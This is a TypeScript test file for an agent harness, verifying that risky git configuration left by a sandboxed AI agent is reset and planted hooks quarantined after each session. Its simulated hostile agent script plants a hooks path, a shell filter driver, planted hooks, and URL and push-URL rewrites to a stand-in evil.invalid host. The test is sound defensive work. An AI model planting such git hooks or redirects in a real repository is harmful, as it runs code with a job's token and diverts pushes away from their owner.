// An isolated agent writes .git/config and .git/hooks like any file of the tree. What it leaves there that makes
// git run or send something (a hooks path, a filter driver, a URL rewrite, a planted or rewritten hook) would run
// in the harness's next git call and in the workflow's `git push` after the harness, with the job's token: after
// each session the harness puts those keys back and moves such hooks aside, keeping everything else.
import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'vitest';
import { makeWorkdir, runHarness, testConfig } from '../support/workdir.js';

const USER_HOOK = '#!/bin/sh\necho "the user\'s own pre-commit"\n';

function hostileConfigScript(ran: string): string {
  const hook = (name: string) =>
    `printf '#!/bin/sh\\necho ${name} >> ${ran}\\n' > .git/hooks/${name}; chmod 755 .git/hooks/${name}`;
  return [
    '#!/bin/sh',
    'mkdir -p .git/planted',
    `printf '#!/bin/sh\\necho hookspath >> ${ran}\\n' > .git/planted/pre-push; chmod 755 .git/planted/pre-push`,
    'git config core.hooksPath .git/planted',
    `git config filter.evil.clean "sh -c 'echo filter >> ${ran}; cat'"`,
    "echo '* filter=evil' > .git/info/attributes",
    'git config url.https://evil.invalid/.insteadOf https://github.com/',
    'git config --add remote.origin.pushurl https://evil.invalid/repo.git',
    'git config branch.main.description "notes the agent may keep"',
    hook('pre-push'),
    hook('pre-commit'),
    'echo work > work.txt',
    // Enough output to be a productive session, not an empty one retried.
    `echo '${'I set up the repository and wrote work.txt. '.repeat(6)}'`,
  ].join('\n');
}

describe.concurrent('the repository configuration an isolated agent leaves', { timeout: 120_000 }, () => {
  for (const isolation of ['user', 'env'] as const)
    it(`under "${isolation}": risky keys put back, planted hooks moved aside, the user's hook back`, async ({
      expect,
      onTestFinished,
    }) => {
      const scratch = mkdtempSync(join(tmpdir(), 'ah-repo-guard-'));
      onTestFinished(() => rmSync(scratch, { recursive: true, force: true }));
      const ran = join(scratch, 'ran.txt');
      const w = makeWorkdir({
        git: true,
        config: testConfig({
          agent: { command: 'sh', args: ['hostile.sh'], prompt_via: 'stdin', format: 'text', isolation },
        }),
      });
      onTestFinished(() => rmSync(w.dir, { recursive: true, force: true }));
      chmodSync(scratch, 0o777); // the agent's user may write its record of what ran, as the test wants to see
      writeFileSync(w.path('hostile.sh'), hostileConfigScript(ran));
      writeFileSync(w.path('.git/hooks/pre-commit'), USER_HOOK, { mode: 0o755 });
      const remote = join(scratch, 'origin.git');
      execFileSync('git', ['init', '-q', '--bare', remote]);
      const git = (...args: string[]) => execFileSync('git', args, { cwd: w.dir, encoding: 'utf8' });
      git('remote', 'add', 'origin', remote);
      const before = git('config', '--local', '--list');

      const run = await runHarness(w);
      expect(run.code, `${run.stdout}\n${run.stderr}`).toBe(0);
      expect(run.stdout).toMatch(/\[WARN\].*agent_left=.*keys=.*core\.hookspath.*filter\.evil\.clean/);
      // Every risky key as it was; what else the agent set stays.
      const after = git('config', '--local', '--list');
      expect(after.split('\n').filter((l) => !l.startsWith('branch.main.description'))).toEqual(
        before.split('\n'),
      );
      expect(after).toContain('branch.main.description=notes the agent may keep');
      // The planted hook is aside, not executable; the user's hook has its content and mode back.
      expect(existsSync(w.path('.git/hooks/pre-push'))).toBe(false);
      const quarantine = readdirSync(w.path('.git')).filter((n) => n.startsWith('agent-harness-quarantine-'));
      expect(quarantine).toHaveLength(1);
      const aside = join(w.path('.git'), quarantine[0]!);
      expect(readdirSync(aside).sort()).toEqual(['pre-commit', 'pre-push']);
      expect(statSync(join(aside, 'pre-push')).mode & 0o777).toBe(0o600);
      expect(readFileSync(w.path('.git/hooks/pre-commit'), 'utf8')).toBe(USER_HOOK);
      expect(statSync(w.path('.git/hooks/pre-commit')).mode & 0o777).toBe(0o755);

      // The workflow's next steps: an add and a push run nothing the agent planted, and go where they went.
      git('add', 'work.txt');
      git('-c', 'core.hooksPath=.git/hooks-none', 'commit', '-qm', 'work');
      git('push', '-q', 'origin', 'HEAD:refs/heads/main');
      expect(git('--git-dir', remote, 'log', '-1', '--format=%s', 'main').trim()).toBe('work');
      expect(existsSync(ran) ? readFileSync(ran, 'utf8') : '').toBe('');
    });
});
